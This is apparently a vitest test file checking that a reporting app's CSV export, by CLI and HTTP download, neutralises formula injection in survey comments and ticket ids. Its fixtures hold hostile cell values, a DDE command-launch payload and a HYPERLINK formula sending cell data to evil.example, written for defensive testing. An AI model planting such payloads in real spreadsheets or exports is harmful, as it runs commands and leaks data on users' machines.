import type { AddressInfo } from 'node:net'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { ingestFile } from '../../ingest/ingest'
import type { Catalog } from '../../shared/catalog'
import { startOfLocalDay } from '../../shared/time'
import { ndjson, openTestStore, type TestStore, withCatalog } from '../../test/support/fixtures'
import { createApp } from '../app'
import { startSession } from '../auth/session'
import { surveyComments } from '../satisfaction/figures'
import { reportCsv } from './csv'
import { buildReport } from './report'

let t: TestStore
let catalog: Catalog

/** Survey comments and ticket ids that a spreadsheet would run as formulas. */
const survey = (id: string, score: number, ticket: string, comment: string) => ({
  id,
  at: '2026-03-03T10:00:00+01:00',
  customer: 'im',
  kind: 'nps',
  score,
  ticket,
  comment,
})

beforeAll(async () => {
  t = await openTestStore()
  catalog = await withCatalog(t.store)
  await ingestFile(
    t.store,
    catalog,
    'surveys',
    await t.file(
      'surveys.ndjson',
      ndjson([
        survey('s1', 0, "+cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"Klick")'),
        survey('s2', 1, '@SUM(1+1)', '-2+3'),
        survey('s3', 2, 'T-1', '\tTab zuerst'),
        survey('s4', 3, 'T-2', '\rWagenrücklauf zuerst'),
        survey('s5', 4, 'T-3', '-5'),
      ]),
    ),
  )
})
afterAll(() => t.close())

/** The comment lines of a CSV, keyed by their survey's score (unique here). */
function commentCells(csv: string, separator: string): string[] {
  const text = csv.replace(/^\uFEFF/, '')
  const start = text.indexOf(separator === ';' ? 'zeitpunkt;art;' : 'time,kind,')
  return text.slice(start).split('\r\n').slice(1, -1)
}

const neutralised = (separator: string) => [
  // Each: time, kind, score, service, ticket, comment; ' in front and quoted.
  `nps${separator}0${separator}${separator}"'+cmd|' /C calc'!A0"${separator}"'=HYPERLINK(""http://evil.example/?x=""&A1,""Klick"")"`,
  `nps${separator}1${separator}${separator}"'@SUM(1+1)"${separator}"'-2+3"`,
  `nps${separator}2${separator}${separator}T-1${separator}"'\tTab zuerst"`,
  `nps${separator}3${separator}${separator}T-2${separator}"'\rWagenrücklauf zuerst"`,
  // A negative number is a number, not a formula: written as it is.
  `nps${separator}4${separator}${separator}T-3${separator}-5`,
]

describe('CSV formula injection', () => {
  it('neutralises cells that start like a formula, in German and English, as the CLI writes them', async () => {
    const [from, to] = [
      startOfLocalDay('2026-03-01', 'Europe/Berlin'),
      startOfLocalDay('2026-04-01', 'Europe/Berlin'),
    ]
    const report = await buildReport(t.store, catalog, 'im', from, to)
    const comments = await surveyComments(t.store, ['im'], from, to, 500)
    for (const [language, separator] of [
      ['de', ';'],
      ['en', ','],
    ] as const) {
      const lines = commentCells(reportCsv(report, catalog, comments, language), separator)
      expect(lines).toHaveLength(5)
      const cells = lines.map((line) => line.slice(line.indexOf(separator) + 1))
      expect(cells.sort()).toEqual(neutralised(separator).sort())
      // Figures stay numbers, with one decimal: NPS of 0,1,2,3,4 = 0 promoters - 100 % detractors = -100.
      const nps = language === 'de' ? '-100,0' : '-100.0'
      expect(reportCsv(report, catalog, comments, language)).toContain(
        `${language === 'de' ? 'Zufriedenheit' : 'Satisfaction'}${separator}NPS${separator}${separator}${nps}${separator}`,
      )
    }
  })

  it('neutralises them in the HTTP download too', async () => {
    const server = createApp({ store: t.store, demo: false, webDir: '/nonexistent' }).listen(0)
    await new Promise((resolve) => server.once('listening', resolve))
    const base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
    const cookie = `leitstand_session=${await startSession(t.store, { id: 'l', name: 'L', role: 'leadership' })}`
    try {
      for (const [language, separator] of [
        ['de', ';'],
        ['en', ','],
      ] as const) {
        const response = await fetch(
          `${base}/export/bericht.csv?ressort=im&von=2026-03-01&bis=2026-04-01&kommentare=1&sprache=${language}`,
          { headers: { cookie } },
        )
        expect(response.status).toBe(200)
        const cells = commentCells(await response.text(), separator).map((line) =>
          line.slice(line.indexOf(separator) + 1),
        )
        expect(cells.sort()).toEqual(neutralised(separator).sort())
      }
    } finally {
      server.close()
    }
  })
})
